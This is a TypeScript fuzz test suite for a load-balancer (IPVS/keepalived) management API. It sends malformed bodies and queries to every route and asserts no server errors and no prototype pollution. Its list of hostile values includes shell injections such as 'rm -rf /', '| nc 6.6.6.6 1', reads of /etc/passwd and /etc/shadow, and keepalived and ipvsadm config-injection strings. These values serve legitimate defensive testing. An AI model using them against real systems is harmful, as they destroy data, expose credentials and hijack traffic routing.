// Issue 11 fuzz suite: every POST/PUT/PATCH/DELETE route × a few hundred malformed bodies and
// queries (wrong types, huge and deep values, ill-formed Unicode, NUL, integers past every column,
// shell and keepalived metacharacters, prototype keys), on SQLite and PostgreSQL. No answer may
// be a 5xx, the prototype stays clean, and every stored config still validates afterwards.
// Deterministic (no random seed to chase); bounded (each route's cases are capped).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endpoints as table, type EndpointDef, type EndpointId } from '@/lib/api/endpoints';

const endpoints = table as unknown as Record<EndpointId, EndpointDef>;
import { DirectorConfigSchema } from '@/lib/ipvs/model';
import { db } from '@/lib/server/db';
import { createUser } from '@/lib/server/users';
import { resetThrottle } from '@/lib/server/auth/throttle';
import { forgetStatsAdmission } from '@/lib/server/stats-admission';
import { backends, closeTestDb, dbWithUsers, PASSWORD, SYSTEM, type TestDb } from '../db/harness';
import { call, type Caller } from '../api/caller';

const WEB = { protocol: 'tcp', address: '10.0.0.1', port: 80, scheduler: 'wrr', realServers: [{ address: '10.0.1.1', port: 80, weight: 1 }] };
const KEY = { protocol: 'tcp', address: '10.0.0.1', port: 80 };
const ZERO = { conns: 0, inPkts: 0, outPkts: 0, inBytes: 0, outBytes: 0 };
const RATES = { cps: 0, inpps: 0, outpps: 0, inbps: 0, outbps: 0 };

/** Values no field expects. */
const EVIL: unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  -0.0001,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 + 2,
  1e308,
  -1e308,
  '',
  ' ',
  'x'.repeat(70_000),
  'x\ud800y',
  '\udfff',
  'a\u0000b',
  '\u202eevil',
  '😀',
  'é\u0301',
  '$(reboot)',
  '`id`',
  '; rm -rf / #',
  '| nc 6.6.6.6 1',
  '../../etc/passwd',
  '%00',
  '\r\n-A -t 6.6.6.6:80',
  '}\nvirtual_server 6.6.6.6 80 {\n real_server 6.6.6.6 80 { weight 100 }\n}',
  '"\'\\',
  '#!include /etc/shadow',
  '__proto__',
  'constructor',
  {},
  [],
  [null],
  { __proto__: { polluted: 1 } },
  Array.from({ length: 5001 }, () => 1),
];

/** Whole bodies (raw JSON text) no route expects. */
const RAW_BODIES: string[] = [
  '',
  '{',
  'null',
  'true',
  '1',
  '"str"',
  '[]',
  '[{}]',
  '{"a":',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  `{"a":${'{"a":'.repeat(200)}1${'}'.repeat(200)}}`,
  '{"x":"\\ud800"}',
  '{"\\udc00":1}',
  '{"x":"\\u0000"}',
  '\ufeff{}',
  '{"x":1e999}',
  '{"x":-1e999}',
  '{"x":123456789012345678901234567890}',
  `{"k":"${'\\u0041'.repeat(1000)}"}`,
];

/** Query strings appended to every route. */
const QUERIES = [
  '?limit=-1',
  '?limit=99999999999999',
  '?before=2147483648',
  '?revision=9007199254740993',
  '?x=%00',
  '?x=%ED%A0%80',
  '?__proto__[polluted]=1',
  '?format=../../x',
  '?dryRun=%0A',
  `?q=${'a'.repeat(10_000)}`,
];

const MAX_CASES = 220;

function examples(tokenId: string): Partial<Record<EndpointId, { params?: Record<string, string>; body?: unknown }>> {
  const snapshot = {
    at: Date.now(),
    totals: { counters: ZERO, rates: RATES },
    services: [{ service: KEY, counters: ZERO, rates: RATES, realServers: [{ address: '10.0.1.1', port: 80, activeConns: 1, inactConns: 0, persistConns: 0, counters: ZERO, rates: RATES }] }],
  };
  return {
    login: { body: { username: 'admin', password: 'not the password' } },
    changePassword: { body: { currentPassword: 'wrong current', newPassword: 'a new password 123' } },
    createUser: { body: { username: 'fz', password: 'long password 123', role: 'viewer' } },
    updateUser: { params: { user: 'fuzzuser' }, body: { role: 'viewer', disabled: false, password: 'long password 456' } },
    deleteUser: { params: { user: 'nobody-here' } },
    createToken: { body: { name: 'fz', role: 'viewer', expiresInDays: 1 } },
    revokeToken: { params: { token: tokenId } },
    createCluster: { body: { name: 'fz', description: 'd', driftPolicy: 'enforce', config: { services: [WEB] } } },
    updateCluster: { params: { cluster: 'web' }, body: { description: 'd', driftPolicy: 'report' } },
    deleteCluster: { params: { cluster: 'no-such-cluster' } },
    previewChanges: { params: { cluster: 'web' }, body: { baseRevision: 1, message: 'm', changes: [{ op: 'add-server', service: KEY, server: { address: '10.0.1.9', port: 80, weight: 2 } }] } },
    commitChanges: {
      params: { cluster: 'web' },
      body: { baseRevision: 1, message: 'm', changes: [{ op: 'edit-server', service: KEY, server: { address: '10.0.1.1', port: 80 }, set: { weight: 3 } }] },
    },
    rollback: { params: { cluster: 'web' }, body: { toRevision: 1, baseRevision: 1, message: 'm' } },
    importConfig: {
      params: { cluster: 'web' },
      body: { format: 'rules', text: '-A -t 10.0.0.9:80 -s rr\n-a -t 10.0.0.9:80 -r 10.0.2.1:80 -m -w 1\n', baseRevision: 1, message: 'm', keepOverlays: true, dryRun: true },
    },
    registerDirector: { params: { cluster: 'web' }, body: { name: 'fzd' } },
    deleteDirector: { params: { cluster: 'web', director: 'no-such-director' } },
    revokeDirector: { params: { cluster: 'web', director: 'no-such-director' } },
    rotateDirectorToken: { params: { cluster: 'web', director: 'no-such-director' } },
    reapplyDirector: { params: { cluster: 'web', director: 'lb1' } },
    adoptActual: { params: { cluster: 'web', director: 'lb1' }, body: { baseRevision: 1, message: 'm' } },
    demoFailover: { params: { cluster: 'web' } },
    setRolloutPolicy: { params: { cluster: 'web' }, body: { mode: 'canary', canary: 1, soakSeconds: 0, batch: 1, minRateFraction: 0.5 } },
    rolloutAction: { params: { cluster: 'web', revision: '1' }, body: { action: 'pause' } },
    updateAlertSettings: { params: { cluster: 'web' }, body: { flapTransitions: 4, flapWindowMinutes: 10, holdDownSeconds: 0, disconnectSeconds: 60 } },
    // the discard port on loopback: nothing is ever delivered anywhere
    createAlertTarget: { params: { cluster: 'web' }, body: { name: 'fz', url: 'http://127.0.0.1:9/hook', format: 'json', kinds: ['nack'] } },
    updateAlertTarget: { params: { cluster: 'web', target: 'no-such-target' }, body: { enabled: false } },
    deleteAlertTarget: { params: { cluster: 'web', target: 'no-such-target' } },
    testAlertTarget: { params: { cluster: 'web', target: 'no-such-target' } },
    agentReport: { body: { type: 'ack', revision: 1, hash: 'h', opsApplied: 1, durationMs: 1 } },
    agentStats: { body: { samples: [snapshot] } },
    agentConnections: { body: { requestId: 'r1', total: 0, entries: [] } },
  };
}

/** Every leaf path of a value (to depth 5), for per-field mutation. */
function leafPaths(v: unknown, path: (string | number)[] = [], out: (string | number)[][] = []): (string | number)[][] {
  if (path.length > 0) out.push(path);
  if (path.length >= 5 || v === null || typeof v !== 'object') return out;
  if (Array.isArray(v)) {
    if (v.length) leafPaths(v[0], [...path, 0], out);
  } else for (const [k, c] of Object.entries(v)) leafPaths(c, [...path, k], out);
  return out;
}

function setAt(v: unknown, path: (string | number)[], value: unknown): unknown {
  const copy = structuredClone(v) as Record<string | number, unknown>;
  let o = copy;
  for (const p of path.slice(0, -1)) o = o[p] as Record<string | number, unknown>;
  o[path[path.length - 1]!] = value;
  return copy;
}

/** Deterministic: the generic bodies, then every field of the example × every evil value, spread evenly up to the cap. */
function cases(example: unknown): string[] {
  const out = [...RAW_BODIES, ...EVIL.map((e) => JSON.stringify(e))];
  const mutants: string[] = [];
  if (example && typeof example === 'object') {
    for (const path of leafPaths(example)) for (const e of EVIL) mutants.push(JSON.stringify(setAt(example, path, e)));
    mutants.push(JSON.stringify({ ...(example as object), extra: 'field' }));
    mutants.push(JSON.stringify(example).replace(/^\{/, '{"__proto__":{"polluted":1},'));
  }
  const room = MAX_CASES - out.length;
  const step = Math.max(1, mutants.length / room);
  for (let i = 0; i < mutants.length && out.length < MAX_CASES; i += step) out.push(mutants[Math.floor(i)]!);
  return out;
}

/** Routes that would end the fuzzer's own session or director go last. */
const LAST: EndpointId[] = ['revokeDirector', 'rotateDirectorToken', 'deleteDirector', 'deleteUser', 'deleteCluster', 'revokeToken', 'logout'];

for (const backend of backends()) {
  describe(`fuzz every write route (${backend})`, () => {
    let tdb: TestDb;
    let admin: Caller;
    let director: Caller;
    let tokenId: string;

    beforeAll(async () => {
      ({
        tdb,
        as: { admin },
      } = await dbWithUsers(backend, { admin: 'admin' }));
      await createUser({ username: 'fuzzuser', password: PASSWORD, role: 'operator' }, SYSTEM);
      expect((await call('createCluster', { body: { name: 'web', config: { services: [WEB] } }, as: admin })).status).toBe(201);
      const reg = await call('registerDirector', { params: { cluster: 'web' }, body: { name: 'lb1' }, as: admin });
      director = { token: reg.body.token };
      const tok = await call('createToken', { body: { name: 'victim', role: 'viewer' }, as: admin });
      tokenId = tok.body.token.id;
    }, 120_000);

    afterAll(async () => {
      resetThrottle();
      forgetStatsAdmission();
      await closeTestDb(tdb);
    });

    it('answers no 5xx, keeps the prototype clean and every stored config valid', async () => {
      const ex = examples(tokenId);
      const ids = (Object.keys(endpoints) as EndpointId[]).filter((id) => endpoints[id].method !== 'GET');
      ids.sort((a, b) => LAST.indexOf(a) - LAST.indexOf(b));
      const failures: string[] = [];
      let calls = 0;
      for (const id of ids) {
        const def = endpoints[id];
        const e = ex[id] ?? {};
        const as = def.access === 'director' ? director : admin;
        const params = e.params ?? {};
        const bodies = def.body ? cases(e.body) : [''];
        for (const raw of bodies) {
          const r = await call(id, { params, rawBody: raw === '' ? undefined : raw, as: { ...as, ip: '192.0.2.50' } });
          calls++;
          if (r.status >= 500) failures.push(`${id} ${r.status} ${String(r.body?.error ?? r.text).slice(0, 120)} <- ${raw.slice(0, 160)}`);
        }
        for (const q of QUERIES) {
          const query = Object.fromEntries(new URLSearchParams(q));
          const r = await call(id, { params, query, rawBody: def.body && e.body ? JSON.stringify(e.body) : undefined, as });
          calls++;
          if (r.status >= 500) failures.push(`${id} ${r.status} ${String(r.body?.error ?? r.text).slice(0, 120)} <- query ${q.slice(0, 80)}`);
        }
        // ill-formed and hostile path parameters
        for (const name of Object.keys(params)) {
          for (const bad of ['a\u0000b', '..', 'x'.repeat(5000), '9999999999999']) {
            const r = await call(id, { params: { ...params, [name]: bad }, rawBody: def.body && e.body ? JSON.stringify(e.body) : undefined, as });
            calls++;
            if (r.status >= 500) failures.push(`${id} ${r.status} ${String(r.body?.error ?? r.text).slice(0, 120)} <- param ${name}=${JSON.stringify(bad).slice(0, 40)}`);
          }
        }
      }
      // reads take the same hostile queries (integers past an INTEGER column reach WHERE clauses)
      for (const id of (Object.keys(endpoints) as EndpointId[]).filter((i) => endpoints[i].method === 'GET' && endpoints[i].query && endpoints[i].access !== 'director')) {
        const path = endpoints[id].path;
        const params = Object.fromEntries([...path.matchAll(/\{(\w+)\}/g)].map(([, n]) => [n!, n === 'cluster' ? 'web' : n === 'director' ? 'lb1' : n === 'revision' ? '1' : 'x']));
        for (const q of [...QUERIES, '?before=2147483648', '?from=2147483648&to=2147483649', '?cursor=%00', '?actor=a%00b']) {
          const r = await call(id, { params, query: Object.fromEntries(new URLSearchParams(q)), as: admin, signal: AbortSignal.timeout(10_000) });
          calls++;
          if (r.status >= 500) failures.push(`${id} ${r.status} ${String(r.body?.error ?? r.text).slice(0, 120)} <- query ${q.slice(0, 80)}`);
          if (r.body instanceof Response) await r.body.body?.cancel();
        }
      }
      expect(failures, `${failures.length} of ${calls} calls answered 5xx`).toEqual([]);
      expect(calls).toBeGreaterThan(ids.length * 100);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      const prisma = await db();
      const revisions = await prisma.configRevision.findMany({ select: { number: true, config: true, cluster: { select: { name: true } } } });
      expect(revisions.length).toBeGreaterThan(0);
      for (const r of revisions) expect(DirectorConfigSchema.safeParse(JSON.parse(r.config)).success, `${r.cluster.name} r${r.number}`).toBe(true);
    }, 300_000);
  });
}
